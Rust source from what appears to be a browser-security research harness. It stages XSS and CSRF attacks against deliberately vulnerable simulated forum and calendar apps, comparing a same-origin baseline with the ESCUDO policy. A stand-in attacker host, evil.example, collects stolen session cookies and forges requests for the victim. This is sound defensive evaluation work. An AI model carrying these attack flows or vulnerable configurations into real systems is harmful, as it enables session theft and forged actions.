        XssGoal::ActOnBehalfOfVictim => state
            .lock()
            .expect("app state lock")
            .events
            .iter()
            .any(|e| e.title == "xss-event" && e.author == "victim"),
        XssGoal::ModifyExistingContent => browser
            .page(page)
            .text_of("event-1")
            .is_some_and(|text| text.contains("defaced by xss")),
        XssGoal::StealSessionCookie => stolen
            .lock()
            .expect("app state lock")
            .iter()
            .any(|query| query.contains(SESSION_COOKIE)),
        XssGoal::HandlerDefacement => browser
            .page(page)
            .text_of("app-status")
            .is_some_and(|text| text.contains("xss-by-handler")),
    };

    result(attack, mode, succeeded, browser.erm().denials())
}

// --------------------------------------------------------------------- CSRF staging

/// Stages one CSRF attack under one policy mode.
#[must_use]
pub fn run_csrf(mode: PolicyMode, attack: &CsrfAttack) -> AttackResult {
    match attack.app {
        TargetApp::Forum => run_forum_csrf(mode, attack),
        TargetApp::Calendar => run_calendar_csrf(mode, attack),
    }
}

fn run_forum_csrf(mode: PolicyMode, attack: &CsrfAttack) -> AttackResult {
    let forum = ForumApp::new(ForumConfig::vulnerable());
    let state = forum.state();
    let attacker = AttackerSite::with_csrf(attack.vector.clone());

    let mut browser = Browser::new(mode);
    browser
        .network_mut()
        .register("http://forum.example", forum);
    browser
        .network_mut()
        .register("http://evil.example", attacker);

    // The victim has an active session with the trusted site…
    browser
        .navigate("http://forum.example/login.php?user=victim")
        .expect("victim login");
    state.lock().expect("app state lock").topics.push(Topic {
        id: 1,
        title: "Welcome".to_string(),
        author: "victim".to_string(),
        body: "original message".to_string(),
    });

    // …and then visits the malicious site, which forges a request for the trusted one.
    let page = browser
        .navigate("http://evil.example/csrf")
        .expect("victim visits the attacker page");
    if matches!(attack.vector, CsrfVector::FormPost { .. }) {
        let _ = browser.submit_form(page, "csrf-form", &[]);
    }

    let forum_state = state.lock().expect("app state lock");
    let marker = attack.marker;
    let succeeded = forum_state
        .topics
        .iter()
        .any(|t| t.title.contains(marker) && t.author == "victim")
        || forum_state
            .replies
            .iter()
            .any(|r| r.body.contains(marker) && r.author == "victim")
        || forum_state
            .private_messages
            .iter()
            .any(|p| p.body.contains(marker) && p.from == "victim");
    drop(forum_state);

    result_csrf(attack, mode, succeeded, browser.erm().denials())
}

fn run_calendar_csrf(mode: PolicyMode, attack: &CsrfAttack) -> AttackResult {
    let calendar = CalendarApp::new(CalendarConfig::vulnerable());
    let state = calendar.state();
    let attacker = AttackerSite::with_csrf(attack.vector.clone());

    let mut browser = Browser::new(mode);
    browser
        .network_mut()
        .register("http://calendar.example", calendar);
    browser
        .network_mut()
        .register("http://evil.example", attacker);

    browser
        .navigate("http://calendar.example/login.php?user=victim")
        .expect("victim login");
    state.lock().expect("app state lock").events.push(Event {
        id: 1,
        day: 10,
        title: "Welcome party".to_string(),
        description: "original description".to_string(),
        author: "victim".to_string(),
    });

    let page = browser
        .navigate("http://evil.example/csrf")
        .expect("victim visits the attacker page");
    if matches!(attack.vector, CsrfVector::FormPost { .. }) {
        let _ = browser.submit_form(page, "csrf-form", &[]);
    }

    let calendar_state = state.lock().expect("app state lock");
    let marker = attack.marker;
    let succeeded = calendar_state.events.iter().any(|e| {
        e.author == "victim" && (e.title.contains(marker) || e.description.contains(marker))
    });
    drop(calendar_state);

    result_csrf(attack, mode, succeeded, browser.erm().denials())
}

fn result(attack: &XssAttack, mode: PolicyMode, succeeded: bool, denials: u64) -> AttackResult {
    AttackResult {
        id: attack.id.to_string(),
        name: attack.name.to_string(),
        kind: AttackKind::Xss,
        app: attack.app,
        mode,
        succeeded,
        denials,
    }
}

fn result_csrf(
    attack: &CsrfAttack,
    mode: PolicyMode,
    succeeded: bool,
    denials: u64,
) -> AttackResult {
    AttackResult {
        id: attack.id.to_string(),
        name: attack.name.to_string(),
        kind: AttackKind::Csrf,
        app: attack.app,
        mode,
        succeeded,
        denials,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacks::{calendar_xss_attacks, forum_csrf_attacks, forum_xss_attacks};

    #[test]
    fn forum_xss_attacks_succeed_under_sop_and_are_neutralized_by_escudo() {
        for attack in forum_xss_attacks() {
            let sop = run_xss(PolicyMode::SameOriginOnly, &attack);
            assert!(
                sop.succeeded,
                "{} should succeed under the SOP baseline",
                attack.id
            );
            let escudo = run_xss(PolicyMode::Escudo, &attack);
            assert!(
                !escudo.succeeded,
                "{} should be neutralized by ESCUDO",
                attack.id
            );
            assert!(escudo.denials > 0, "{} should record a denial", attack.id);
        }
    }

    #[test]
    fn calendar_xss_attacks_succeed_under_sop_and_are_neutralized_by_escudo() {
        for attack in calendar_xss_attacks() {
            let sop = run_xss(PolicyMode::SameOriginOnly, &attack);
            assert!(
                sop.succeeded,
                "{} should succeed under the SOP baseline",
                attack.id
            );
            let escudo = run_xss(PolicyMode::Escudo, &attack);
            assert!(
                !escudo.succeeded,
                "{} should be neutralized by ESCUDO",
                attack.id
            );
        }
    }

    #[test]
    fn forum_csrf_attacks_succeed_under_sop_and_are_neutralized_by_escudo() {
        for attack in forum_csrf_attacks() {
            let sop = run_csrf(PolicyMode::SameOriginOnly, &attack);
            assert!(
                sop.succeeded,
                "{} should succeed under the SOP baseline",
                attack.id
            );
            let escudo = run_csrf(PolicyMode::Escudo, &attack);
            assert!(
                !escudo.succeeded,
                "{} should be neutralized by ESCUDO",
                attack.id
            );
        }
    }

    #[test]
    fn attack_result_display_is_readable() {
        let attack = &forum_xss_attacks()[0];
        let line = run_xss(PolicyMode::Escudo, attack).to_string();
        assert!(line.contains("forum-xss-1"));
        assert!(line.contains("neutralized"));
    }
}
