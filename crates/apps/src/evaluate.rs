//! The defense-effectiveness harness (§6.4), as a view over the scenario matrix.
//!
//! The staging itself lives in [`crate::scenario`]: the forum and calendar
//! registry entries carry every attack from [`crate::attacks`], staged
//! end-to-end by the generic executor (victim login, payload planted or
//! malicious site visited, server-side state and exfiltration logs probed).
//! This module keeps the paper-shaped report — one [`AttackResult`] per
//! (attack × policy mode) — by projecting the matrix cells of the two §6.4
//! scenarios. Running both modes reproduces the paper's result: every attack
//! that succeeds under the same-origin policy is neutralized by ESCUDO.

use std::fmt;

use escudo_browser::PolicyMode;

use crate::attacks::{AttackKind, TargetApp};
use crate::scenario::{registry, CaseKind, MatrixReport, ScenarioOutcome, Verdict};

/// The outcome of staging one attack under one policy mode.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackResult {
    /// Attack identifier (e.g. `forum-xss-1`).
    pub id: String,
    /// Human-readable attack name.
    pub name: String,
    /// XSS or CSRF.
    pub kind: AttackKind,
    /// Target application.
    pub app: TargetApp,
    /// The policy mode the browser enforced.
    pub mode: PolicyMode,
    /// Did the attack achieve its goal?
    pub succeeded: bool,
    /// How many reference-monitor denials were recorded while staging the attack.
    pub denials: u64,
}

impl AttackResult {
    fn from_outcome(outcome: &ScenarioOutcome) -> Option<Self> {
        let kind = match outcome.kind {
            CaseKind::Xss => AttackKind::Xss,
            CaseKind::Csrf => AttackKind::Csrf,
            CaseKind::Leak | CaseKind::Probe => return None,
        };
        let app = match outcome.scenario {
            "forum" => TargetApp::Forum,
            "calendar" => TargetApp::Calendar,
            _ => return None,
        };
        Some(AttackResult {
            id: outcome.case.clone(),
            name: outcome.name.clone(),
            kind,
            app,
            mode: outcome.mode,
            succeeded: outcome.observed == Verdict::Succeeds,
            denials: outcome.denials,
        })
    }
}

impl fmt::Display for AttackResult {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{:<16} [{:<11}] {:>12}: {}",
            self.id,
            self.mode,
            if self.succeeded {
                "SUCCEEDED"
            } else {
                "neutralized"
            },
            self.name
        )
    }
}

/// The full §6.4 experiment: every attack under both policy modes.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct DefenseReport {
    /// All results (one per attack per mode).
    pub results: Vec<AttackResult>,
}

impl DefenseReport {
    /// Stages the complete §6.4 corpus under both policy modes by running the
    /// forum and calendar entries of the scenario registry.
    #[must_use]
    pub fn run_full() -> Self {
        let classics: Vec<_> = registry()
            .into_iter()
            .filter(|s| s.id == "forum" || s.id == "calendar")
            .collect();
        DefenseReport::from_matrix(&MatrixReport::run(&classics))
    }

    /// Projects the attack cells (XSS and CSRF on the §6.4 apps) out of an
    /// executed matrix.
    #[must_use]
    pub fn from_matrix(matrix: &MatrixReport) -> Self {
        DefenseReport {
            results: matrix
                .outcomes
                .iter()
                .filter_map(AttackResult::from_outcome)
                .collect(),
        }
    }

    /// Results for one policy mode.
    #[must_use]
    pub fn for_mode(&self, mode: PolicyMode) -> Vec<&AttackResult> {
        self.results.iter().filter(|r| r.mode == mode).collect()
    }

    /// Number of attacks that succeed under the given mode.
    #[must_use]
    pub fn successes(&self, mode: PolicyMode) -> usize {
        self.for_mode(mode).iter().filter(|r| r.succeeded).count()
    }

    /// Number of attacks neutralized under the given mode.
    #[must_use]
    pub fn neutralized(&self, mode: PolicyMode) -> usize {
        self.for_mode(mode).iter().filter(|r| !r.succeeded).count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_full_report_reproduces_the_paper_headline() {
        let report = DefenseReport::run_full();
        // 4 XSS + 5 CSRF per app, two apps, two modes.
        assert_eq!(report.results.len(), 36);
        assert_eq!(report.successes(PolicyMode::SameOriginOnly), 18);
        assert_eq!(report.neutralized(PolicyMode::Escudo), 18);
    }

    #[test]
    fn escudo_neutralizations_record_reference_monitor_denials() {
        let report = DefenseReport::run_full();
        for result in report.for_mode(PolicyMode::Escudo) {
            assert!(!result.succeeded, "{} should be neutralized", result.id);
            if result.kind == AttackKind::Xss {
                assert!(result.denials > 0, "{} should record a denial", result.id);
            }
        }
    }

    #[test]
    fn attack_results_carry_their_app_and_kind() {
        let report = DefenseReport::run_full();
        assert!(report
            .results
            .iter()
            .any(|r| r.app == TargetApp::Forum && r.kind == AttackKind::Xss));
        assert!(report
            .results
            .iter()
            .any(|r| r.app == TargetApp::Calendar && r.kind == AttackKind::Csrf));
    }

    #[test]
    fn attack_result_display_is_readable() {
        let report = DefenseReport::run_full();
        let neutralized = report
            .for_mode(PolicyMode::Escudo)
            .first()
            .map(ToString::to_string)
            .expect("at least one result");
        assert!(neutralized.contains("neutralized"));
    }
}
