//! The scenario registry: one declarative (app × attack × policy-mode) matrix.
//!
//! Every consumer of the app fleet — the defense-effectiveness tests, the
//! experiment formatter, the examples, the `scenario_matrix` bench — used to
//! hand-wire its own app/attack setups. This module replaces those with one
//! registry of [`Scenario`] descriptors: each scenario bundles an application,
//! a set of [`ScenarioCase`]s (attack or probe stagings), and the **expected
//! verdict per policy mode**. The generic executor drives a full [`Browser`]
//! session per (case × mode) cell and returns a uniform [`MatrixReport`] grid,
//! so "ESCUDO neutralizes what the same-origin policy admits" is a property of
//! the whole fleet, checked cell-by-cell, not a hand-enumerated list.
//!
//! [`registry`] currently holds six scenarios:
//!
//! * `forum` / `calendar` — the paper's §6.4 case studies, their cases
//!   generated from the [`crate::attacks`] corpus through one generic stager.
//! * `blog` — the introduction's advertising scenario (rogue ad, benign ad,
//!   comment XSS).
//! * `spa` — a single-page app whose content is script-assembled at load
//!   time, so every label on user-visible content comes from the dynamic
//!   clamp.
//! * `adnet` — N third-party ad origins injecting subresources and scripts
//!   under distinct rings (the multi-origin fabric under one page).
//! * `vault` — WebPol-style per-element policy: individually labelled DOM
//!   nodes checked leak-by-leak.

use std::fmt;
use std::sync::Arc;

use escudo_browser::{Browser, PageId, PolicyMode};
use escudo_dom::EventType;

use crate::adnet::{AdServer, NewsSite, NEWS_COOKIE};
use crate::attacker::{AttackerSite, CsrfVector};
use crate::attacks::{
    all_csrf_attacks, all_xss_attacks, CsrfAttack, TargetApp, XssAttack, XssGoal,
};
use crate::blog::{BlogApp, Comment};
use crate::calendar::{CalendarApp, CalendarConfig, Event, SESSION_COOKIE};
use crate::forum::{ForumApp, ForumConfig, Reply, Topic, SID_COOKIE};
use crate::spa::{SpaApp, SPA_COOKIE};
use crate::vault::{VaultApp, API_TOKEN, DISPLAY_NAME, EMAIL};

// ---------------------------------------------------------------------------
// Chaos hooks.

/// A configuration hook the scenario executor applies to every [`Browser`]
/// session it stages — the seam the chaos harness uses to run the whole
/// matrix under fault injection (install per-origin
/// [`FaultPlan`](escudo_net::FaultPlan)s on the session's fabric, set a
/// [`FetchPolicy`](escudo_net::FetchPolicy), collect the fabric handle for
/// counter audits). A hook configures the *transport*; it runs before any
/// application is registered or any page is staged, and it cannot touch
/// mediation — which is exactly the point: the matrix's verdicts must come
/// out identical with or without one.
pub type ChaosHook = Arc<dyn Fn(&mut Browser) + Send + Sync>;

thread_local! {
    static CHAOS_HOOK: std::cell::RefCell<Option<ChaosHook>> =
        const { std::cell::RefCell::new(None) };
}

/// Installs a [`ChaosHook`] for the current thread and returns a guard that
/// restores the previous hook (if any) when dropped. Thread-local on purpose:
/// [`MatrixReport::run`] stages its cells single-threaded, so a thread-local
/// hook makes a chaos run exactly as deterministic as a clean one, and two
/// tests injecting different chaos never race each other's hooks.
pub fn install_chaos_hook(hook: ChaosHook) -> ChaosGuard {
    let previous = CHAOS_HOOK.with(|slot| slot.borrow_mut().replace(hook));
    ChaosGuard {
        previous,
        _not_send: std::marker::PhantomData,
    }
}

/// RAII guard for an installed [`ChaosHook`]; dropping it restores whatever
/// hook (or none) was installed before.
pub struct ChaosGuard {
    previous: Option<ChaosHook>,
    /// The hook slot is thread-local; sending the guard across threads would
    /// restore the wrong thread's slot.
    _not_send: std::marker::PhantomData<*const ()>,
}

impl Drop for ChaosGuard {
    fn drop(&mut self) {
        let previous = self.previous.take();
        CHAOS_HOOK.with(|slot| *slot.borrow_mut() = previous);
    }
}

impl fmt::Debug for ChaosGuard {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("ChaosGuard")
            .field("restores_previous", &self.previous.is_some())
            .finish()
    }
}

/// Creates the [`Browser`] session for one matrix cell: a fresh browser for
/// `mode`, passed through the thread's installed [`ChaosHook`] (if any)
/// before any staging happens. Every stager in this module builds its
/// sessions here, so one installed hook covers the entire registry.
#[must_use]
pub fn session_browser(mode: PolicyMode) -> Browser {
    let mut browser = Browser::new(mode);
    CHAOS_HOOK.with(|slot| {
        if let Some(hook) = slot.borrow().as_ref() {
            hook(&mut browser);
        }
    });
    browser
}

// ---------------------------------------------------------------------------
// Verdicts and expectations.

/// What happened (or should happen) to one case under one policy mode.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// The case achieved its goal (an attack landed, or a probe worked).
    Succeeds,
    /// The case was stopped by the enforcement in effect.
    Neutralized,
}

impl Verdict {
    /// The verdict observed from a staged run.
    #[must_use]
    pub fn from_success(succeeded: bool) -> Self {
        if succeeded {
            Verdict::Succeeds
        } else {
            Verdict::Neutralized
        }
    }
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Verdict::Succeeds => write!(f, "succeeds"),
            Verdict::Neutralized => write!(f, "neutralized"),
        }
    }
}

/// The expected verdict of one case under **each** policy mode. Both fields
/// are mandatory by construction, so no registry entry can lack an expectation
/// for a mode.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Expectation {
    /// Expected verdict under the same-origin baseline.
    pub sop: Verdict,
    /// Expected verdict under ESCUDO.
    pub escudo: Verdict,
}

impl Expectation {
    /// The paper's headline shape: the same-origin policy admits the attack,
    /// ESCUDO neutralizes it.
    #[must_use]
    pub fn defended() -> Self {
        Expectation {
            sop: Verdict::Succeeds,
            escudo: Verdict::Neutralized,
        }
    }

    /// A compatibility probe: legitimate behaviour that must keep working
    /// under both modes.
    #[must_use]
    pub fn harmless() -> Self {
        Expectation {
            sop: Verdict::Succeeds,
            escudo: Verdict::Succeeds,
        }
    }

    /// The expected verdict under `mode`.
    #[must_use]
    pub fn expected(&self, mode: PolicyMode) -> Verdict {
        match mode {
            PolicyMode::SameOriginOnly => self.sop,
            PolicyMode::Escudo => self.escudo,
        }
    }
}

/// What kind of cell this is — an attack class or a compatibility probe.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CaseKind {
    /// Cross-site scripting (injected content misbehaving inside the page).
    Xss,
    /// Cross-site request forgery (a foreign page riding the session).
    Csrf,
    /// Confidentiality: reading a labelled value and exfiltrating it.
    Leak,
    /// Legitimate behaviour that must survive enforcement.
    Probe,
}

impl fmt::Display for CaseKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CaseKind::Xss => write!(f, "xss"),
            CaseKind::Csrf => write!(f, "csrf"),
            CaseKind::Leak => write!(f, "leak"),
            CaseKind::Probe => write!(f, "probe"),
        }
    }
}

/// Coarse workload shape tags, for slicing the matrix in reports.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum WorkloadTag {
    /// The §6.4 case-study shape: server-rendered pages, planted payloads.
    Classic,
    /// Page content assembled by the script interpreter at load time.
    ScriptAssembled,
    /// Many third-party origins contributing subresources and scripts.
    MultiOrigin,
    /// Policies attached to individual DOM nodes, not regions.
    PerElement,
}

// ---------------------------------------------------------------------------
// Cases, scenarios and the executor.

/// The measured result of driving one cell: did the case achieve its goal,
/// and what did mediation cost?
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CellRun {
    /// Did the case achieve its goal?
    pub succeeded: bool,
    /// Reference-monitor checks performed over the whole session.
    pub checks: u64,
    /// Reference-monitor denials recorded over the whole session.
    pub denials: u64,
}

/// One case of a scenario: a staging closure plus its expected verdicts.
#[derive(Clone)]
pub struct ScenarioCase {
    /// Unique case identifier, e.g. `forum-xss-1` or `vault-leak-token`.
    pub id: String,
    /// Human-readable description.
    pub name: String,
    /// Attack class or probe.
    pub kind: CaseKind,
    /// Expected verdict per policy mode.
    pub expected: Expectation,
    run: Arc<dyn Fn(PolicyMode) -> CellRun + Send + Sync>,
}

impl fmt::Debug for ScenarioCase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("ScenarioCase")
            .field("id", &self.id)
            .field("kind", &self.kind)
            .field("expected", &self.expected)
            .finish()
    }
}

impl ScenarioCase {
    /// Builds a case from a staging closure.
    pub fn new(
        id: &str,
        name: &str,
        kind: CaseKind,
        expected: Expectation,
        run: impl Fn(PolicyMode) -> CellRun + Send + Sync + 'static,
    ) -> Self {
        ScenarioCase {
            id: id.to_string(),
            name: name.to_string(),
            kind,
            expected,
            run: Arc::new(run),
        }
    }

    /// Drives the staging under `mode`, one fresh browser session per call.
    #[must_use]
    pub fn run(&self, mode: PolicyMode) -> CellRun {
        (self.run)(mode)
    }
}

/// One registry entry: an application with its served pages and attack set.
#[derive(Debug, Clone)]
pub struct Scenario {
    /// Scenario identifier, e.g. `forum`.
    pub id: &'static str,
    /// Human-readable name.
    pub name: &'static str,
    /// Workload shape tags.
    pub tags: Vec<WorkloadTag>,
    /// The scenario's cases.
    pub cases: Vec<ScenarioCase>,
}

/// One cell of the executed matrix.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScenarioOutcome {
    /// The scenario the cell belongs to.
    pub scenario: &'static str,
    /// The case identifier.
    pub case: String,
    /// The case's human-readable name.
    pub name: String,
    /// Attack class or probe.
    pub kind: CaseKind,
    /// The policy mode the cell ran under.
    pub mode: PolicyMode,
    /// The verdict the registry expects for this mode.
    pub expected: Verdict,
    /// The verdict the staging observed.
    pub observed: Verdict,
    /// Reference-monitor checks over the cell's session (mediation cost).
    pub checks: u64,
    /// Reference-monitor denials over the cell's session.
    pub denials: u64,
}

impl ScenarioOutcome {
    /// `true` when the observed verdict matches the expected one.
    #[must_use]
    pub fn as_expected(&self) -> bool {
        self.expected == self.observed
    }
}

impl fmt::Display for ScenarioOutcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{:<8} {:<24} [{:<11}] {:>12}{}",
            self.scenario,
            self.case,
            self.mode,
            self.observed.to_string(),
            if self.as_expected() {
                ""
            } else {
                "  ** UNEXPECTED **"
            }
        )
    }
}

/// The executed (scenario × case × mode) grid.
#[derive(Debug, Clone, Default)]
pub struct MatrixReport {
    /// One outcome per cell, in registry order (scenario, case, SOP then
    /// ESCUDO).
    pub outcomes: Vec<ScenarioOutcome>,
}

impl MatrixReport {
    /// Runs the given scenarios under both policy modes.
    #[must_use]
    pub fn run(scenarios: &[Scenario]) -> Self {
        let mut outcomes = Vec::new();
        for scenario in scenarios {
            for case in &scenario.cases {
                for mode in [PolicyMode::SameOriginOnly, PolicyMode::Escudo] {
                    let cell = case.run(mode);
                    outcomes.push(ScenarioOutcome {
                        scenario: scenario.id,
                        case: case.id.clone(),
                        name: case.name.clone(),
                        kind: case.kind,
                        mode,
                        expected: case.expected.expected(mode),
                        observed: Verdict::from_success(cell.succeeded),
                        checks: cell.checks,
                        denials: cell.denials,
                    });
                }
            }
        }
        MatrixReport { outcomes }
    }

    /// Runs the full built-in [`registry`].
    #[must_use]
    pub fn run_registry() -> Self {
        MatrixReport::run(&registry())
    }

    /// Number of executed cells.
    #[must_use]
    pub fn cells(&self) -> usize {
        self.outcomes.len()
    }

    /// Cells whose observed verdict differs from the expected one.
    #[must_use]
    pub fn unexpected(&self) -> Vec<&ScenarioOutcome> {
        self.outcomes.iter().filter(|o| !o.as_expected()).collect()
    }

    /// Cells for one policy mode.
    #[must_use]
    pub fn for_mode(&self, mode: PolicyMode) -> Vec<&ScenarioOutcome> {
        self.outcomes.iter().filter(|o| o.mode == mode).collect()
    }

    /// Cells of one scenario.
    #[must_use]
    pub fn for_scenario(&self, id: &str) -> Vec<&ScenarioOutcome> {
        self.outcomes.iter().filter(|o| o.scenario == id).collect()
    }

    /// Cells observed `Succeeds` under the given mode.
    #[must_use]
    pub fn successes(&self, mode: PolicyMode) -> usize {
        self.for_mode(mode)
            .iter()
            .filter(|o| o.observed == Verdict::Succeeds)
            .count()
    }

    /// Cells observed `Neutralized` under the given mode.
    #[must_use]
    pub fn neutralized(&self, mode: PolicyMode) -> usize {
        self.for_mode(mode)
            .iter()
            .filter(|o| o.observed == Verdict::Neutralized)
            .count()
    }

    /// Total reference-monitor checks across the mode's cells (mediation
    /// cost).
    #[must_use]
    pub fn total_checks(&self, mode: PolicyMode) -> u64 {
        self.for_mode(mode).iter().map(|o| o.checks).sum()
    }

    /// Total reference-monitor denials across the mode's cells.
    #[must_use]
    pub fn total_denials(&self, mode: PolicyMode) -> u64 {
        self.for_mode(mode).iter().map(|o| o.denials).sum()
    }
}

fn cell_run(browser: &Browser, succeeded: bool) -> CellRun {
    CellRun {
        succeeded,
        checks: browser.erm().checks(),
        denials: browser.erm().denials(),
    }
}

// ---------------------------------------------------------------------------
// Generic §6.4 staging (forum + calendar through one stager).

/// The app-specific surface one XSS staging needs — everything else is shared.
struct XssTarget {
    origin: &'static str,
    content_path: &'static str,
    cookie_name: &'static str,
    deface_element: &'static str,
    acted: Box<dyn Fn() -> bool>,
}

fn install_xss_target(browser: &mut Browser, attack: &XssAttack) -> XssTarget {
    match attack.app {
        TargetApp::Forum => {
            let forum = ForumApp::new(ForumConfig::vulnerable());
            let state = forum.state();
            {
                // A topic authored by the victim plus the attacker's payload
                // as a reply (input validation is off, as in the paper).
                let mut forum_state = state.lock().expect("app state lock");
                forum_state.topics.push(Topic {
                    id: 1,
                    title: "Welcome".to_string(),
                    author: "victim".to_string(),
                    body: "original message".to_string(),
                });
                forum_state.replies.push(Reply {
                    id: 1,
                    topic_id: 1,
                    author: "mallory".to_string(),
                    body: attack.payload.clone(),
                });
            }
            browser
                .network_mut()
                .register("http://forum.example", forum);
            XssTarget {
                origin: "http://forum.example",
                content_path: "/viewtopic.php?t=1",
                cookie_name: SID_COOKIE,
                deface_element: "topic-1",
                acted: Box::new(move || {
                    state
                        .lock()
                        .expect("app state lock")
                        .topics
                        .iter()
                        .any(|t| t.title == "xss-spam" && t.author == "victim")
                }),
            }
        }
        TargetApp::Calendar => {
            let calendar = CalendarApp::new(CalendarConfig::vulnerable());
            let state = calendar.state();
            {
                let mut calendar_state = state.lock().expect("app state lock");
                calendar_state.events.push(Event {
                    id: 1,
                    day: 10,
                    title: "Welcome party".to_string(),
                    description: "original description".to_string(),
                    author: "victim".to_string(),
                });
                calendar_state.events.push(Event {
                    id: 2,
                    day: 11,
                    title: "Potluck".to_string(),
                    description: attack.payload.clone(),
                    author: "mallory".to_string(),
                });
            }
            browser
                .network_mut()
                .register("http://calendar.example", calendar);
            XssTarget {
                origin: "http://calendar.example",
                content_path: "/index.php",
                cookie_name: SESSION_COOKIE,
                deface_element: "event-1",
                acted: Box::new(move || {
                    state
                        .lock()
                        .expect("app state lock")
                        .events
                        .iter()
                        .any(|e| e.title == "xss-event" && e.author == "victim")
                }),
            }
        }
    }
}

/// Stages one corpus XSS attack under one policy mode: victim login, payload
/// already planted, victim views the content page, goal probed.
#[must_use]
pub fn stage_xss(mode: PolicyMode, attack: &XssAttack) -> CellRun {
    let attacker = AttackerSite::new();
    let stolen = attacker.stolen();

    let mut browser = session_browser(mode);
    let target = install_xss_target(&mut browser, attack);
    browser
        .network_mut()
        .register("http://evil.example", attacker);

    browser
        .navigate(&format!("{}/login.php?user=victim", target.origin))
        .expect("victim login");
    let page = browser
        .navigate(&format!("{}{}", target.origin, target.content_path))
        .expect("victim views the content page");
    if let Some((element, event)) = attack.trigger_event {
        let event: EventType = event.parse().expect("known event type");
        let _ = browser.fire_event(page, element, event);
    }

    let succeeded = match attack.goal {
        XssGoal::ActOnBehalfOfVictim => (target.acted)(),
        XssGoal::ModifyExistingContent => browser
            .page(page)
            .text_of(target.deface_element)
            .is_some_and(|text| text.contains("defaced by xss")),
        XssGoal::StealSessionCookie => stolen
            .lock()
            .expect("app state lock")
            .iter()
            .any(|query| query.contains(target.cookie_name)),
        XssGoal::HandlerDefacement => browser
            .page(page)
            .text_of("app-status")
            .is_some_and(|text| text.contains("xss-by-handler")),
    };
    cell_run(&browser, succeeded)
}

/// The app-specific surface one CSRF staging needs.
struct CsrfTarget {
    origin: &'static str,
    forged: Box<dyn Fn(&str) -> bool>,
}

fn install_csrf_target(browser: &mut Browser, attack: &CsrfAttack) -> CsrfTarget {
    match attack.app {
        TargetApp::Forum => {
            let forum = ForumApp::new(ForumConfig::vulnerable());
            let state = forum.state();
            state.lock().expect("app state lock").topics.push(Topic {
                id: 1,
                title: "Welcome".to_string(),
                author: "victim".to_string(),
                body: "original message".to_string(),
            });
            browser
                .network_mut()
                .register("http://forum.example", forum);
            CsrfTarget {
                origin: "http://forum.example",
                forged: Box::new(move |marker| {
                    let forum_state = state.lock().expect("app state lock");
                    forum_state
                        .topics
                        .iter()
                        .any(|t| t.title.contains(marker) && t.author == "victim")
                        || forum_state
                            .replies
                            .iter()
                            .any(|r| r.body.contains(marker) && r.author == "victim")
                        || forum_state
                            .private_messages
                            .iter()
                            .any(|p| p.body.contains(marker) && p.from == "victim")
                }),
            }
        }
        TargetApp::Calendar => {
            let calendar = CalendarApp::new(CalendarConfig::vulnerable());
            let state = calendar.state();
            state.lock().expect("app state lock").events.push(Event {
                id: 1,
                day: 10,
                title: "Welcome party".to_string(),
                description: "original description".to_string(),
                author: "victim".to_string(),
            });
            browser
                .network_mut()
                .register("http://calendar.example", calendar);
            CsrfTarget {
                origin: "http://calendar.example",
                forged: Box::new(move |marker| {
                    state
                        .lock()
                        .expect("app state lock")
                        .events
                        .iter()
                        .any(|e| {
                            e.author == "victim"
                                && (e.title.contains(marker) || e.description.contains(marker))
                        })
                }),
            }
        }
    }
}

/// Stages one corpus CSRF attack under one policy mode: victim logs into the
/// trusted site, then visits the attacker page carrying the forged request.
#[must_use]
pub fn stage_csrf(mode: PolicyMode, attack: &CsrfAttack) -> CellRun {
    let attacker = AttackerSite::with_csrf(attack.vector.clone());

    let mut browser = session_browser(mode);
    let target = install_csrf_target(&mut browser, attack);
    browser
        .network_mut()
        .register("http://evil.example", attacker);

    browser
        .navigate(&format!("{}/login.php?user=victim", target.origin))
        .expect("victim login");
    let page = browser
        .navigate("http://evil.example/csrf")
        .expect("victim visits the attacker page");
    if matches!(attack.vector, CsrfVector::FormPost { .. }) {
        let _ = browser.submit_form(page, "csrf-form", &[]);
    }

    let succeeded = (target.forged)(attack.marker);
    cell_run(&browser, succeeded)
}

// ---------------------------------------------------------------------------
// Scenario builders.

fn classic_scenario(app: TargetApp) -> Scenario {
    let (id, name) = match app {
        TargetApp::Forum => ("forum", "phpBB-like forum (§6.4)"),
        TargetApp::Calendar => ("calendar", "PHP-Calendar-like calendar (§6.4)"),
    };
    let mut cases = Vec::new();
    for attack in all_xss_attacks().into_iter().filter(|a| a.app == app) {
        let staged = attack.clone();
        cases.push(ScenarioCase::new(
            attack.id,
            attack.name,
            CaseKind::Xss,
            Expectation::defended(),
            move |mode| stage_xss(mode, &staged),
        ));
    }
    for attack in all_csrf_attacks().into_iter().filter(|a| a.app == app) {
        let staged = attack.clone();
        cases.push(ScenarioCase::new(
            attack.id,
            attack.name,
            CaseKind::Csrf,
            Expectation::defended(),
            move |mode| stage_csrf(mode, &staged),
        ));
    }
    Scenario {
        id,
        name,
        tags: vec![WorkloadTag::Classic],
        cases,
    }
}

fn blog_scenario() -> Scenario {
    let benign = ScenarioCase::new(
        "blog-benign-ad",
        "a well-behaved ad restyles its own ring-2 slot",
        CaseKind::Probe,
        Expectation::harmless(),
        |mode| {
            let mut browser = session_browser(mode);
            browser
                .network_mut()
                .register("http://blog.example", BlogApp::new());
            let page = browser
                .navigate("http://blog.example/")
                .expect("reader opens the blog");
            let succeeded = browser
                .page(page)
                .text_of("ad-slot-text")
                .is_some_and(|text| text.contains("Buy more rust!"));
            cell_run(&browser, succeeded)
        },
